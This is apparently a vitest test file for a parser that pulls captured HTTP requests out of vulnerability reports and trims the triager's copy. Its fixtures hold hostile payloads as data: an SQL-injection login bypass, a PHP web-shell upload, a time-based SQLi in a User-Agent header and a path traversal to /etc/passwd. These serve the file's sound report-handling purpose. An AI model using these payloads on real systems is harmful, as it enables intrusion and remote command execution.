// A captured HTTP request in a report: its body below the blank line is part of it, and a triager's copy of it
// leaves out the browser's boilerplate headers but never a header that carries the payload.
import { describe, expect, it } from 'vitest';
import { extractedFields } from '../../test/helpers/extracted-fields.js';
import { codeBlocks } from './blocks.js';
import { essentialRequest } from './http-request.js';

const CAPTURE = [
  'POST /elearning/classes/Login.php?f=login HTTP/1.1',
  'Host: localhost',
  'Content-Length: 45',
  'sec-ch-ua: ";Not A Brand";v="99", "Chromium";v="94"',
  'Accept: */*',
  'Content-Type: application/x-www-form-urlencoded; charset=UTF-8',
  'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.61',
  'Sec-Fetch-Mode: cors',
  'Referer: http://localhost/elearning/admin/login.php',
  'Accept-Encoding: gzip, deflate',
  'Cookie: PHPSESSID=arkil63kkqsabj3b8cf3oimm2j',
  'Connection: close',
  '',
  "username=bypass'+or+1%3D1--+-&password=bypass",
].join('\n');

describe('a request pasted without markup', () => {
  it('takes the body below the blank line into the block', () => {
    const blocks = codeBlocks(`Request:\n\n${CAPTURE}\n\nThe login succeeds.`);
    expect(blocks).toHaveLength(1);
    expect(blocks[0]!.text).toContain("username=bypass'+or+1%3D1--+-&password=bypass");
    expect(blocks[0]!.text).not.toContain('The login succeeds');
  });

  it('gives a GET without Content-Type or Content-Length no body: the next paragraph is prose', () => {
    const blocks = codeBlocks('GET /admin/users HTTP/1.1\nHost: target\n\nid=1 is shown to anyone.');
    expect(blocks[0]!.text).not.toContain('id=1');
  });

  it('follows a multipart body over its blank lines to the closing boundary', () => {
    const text = [
      'POST /upload.php HTTP/1.1',
      'Host: target',
      'Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryX',
      '',
      '------WebKitFormBoundaryX',
      'Content-Disposition: form-data; name="file"; filename="shell.php"',
      '',
      "<?php system($_GET['cmd']); ?>",
      '------WebKitFormBoundaryX--',
      '',
      'The file is stored under /uploads.',
    ].join('\n');
    const block = codeBlocks(text)[0]!.text;
    expect(block).toContain("<?php system($_GET['cmd']); ?>");
    expect(block).not.toContain('stored under');
  });
});

describe('the request as a triager copies it', () => {
  it("drops the browser's headers and keeps the request line, Host, Content-Type, Referer, Cookie and the body", () => {
    const r = essentialRequest(CAPTURE);
    for (const gone of ['User-Agent', 'sec-ch-ua', 'Accept', 'Sec-Fetch-Mode', 'Content-Length', 'Connection'])
      expect(r).not.toMatch(new RegExp(`^${gone}:`, 'm'));
    for (const kept of ['POST /elearning', 'Host: localhost', 'Content-Type:', 'Referer:', 'Cookie:', 'username=bypass']) expect(r).toContain(kept);
  });

  it('keeps a boilerplate header whose value is the injection (a User-Agent or Accept-Language payload)', () => {
    const r = essentialRequest("GET / HTTP/1.1\nHost: t\nUser-Agent: ' OR SLEEP(5)-- -\nAccept-Language: ../../../../etc/passwd\nAccept: */*");
    expect(r).toContain("User-Agent: ' OR SLEEP(5)-- -");
    expect(r).toContain('Accept-Language: ../../../../etc/passwd');
    expect(r).not.toContain('Accept: */*');
  });

  it("drops the line a wrapped User-Agent runs onto, and keeps a kept header's value on its next line", () => {
    const r = essentialRequest(
      'POST /a HTTP/1.1\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:78.0) Gecko/20100101\nFirefox/78.0\nReferer:\nhttps://t/admin.php\n\nx=1',
    );
    expect(r).toBe('POST /a HTTP/1.1\nReferer:\nhttps://t/admin.php\n\nx=1');
  });

  it('leaves the body alone, even a line in it that looks like a boilerplate header', () => {
    expect(essentialRequest('POST /a HTTP/1.1\nHost: t\n\nConnection: close')).toBe('POST /a HTTP/1.1\nHost: t\n\nConnection: close');
  });

  it('gives the body as the PoC of an exploit-db style capture', () => {
    const f = extractedFields(`1. Description:\nSQL injection in the login.\n\n2. Proof of Concept:\n${CAPTURE}\n`, 'Login SQLi');
    expect(f.poc).toContain("username=bypass'+or+1%3D1--+-&password=bypass");
    expect(f.poc).not.toContain('User-Agent');
  });
});
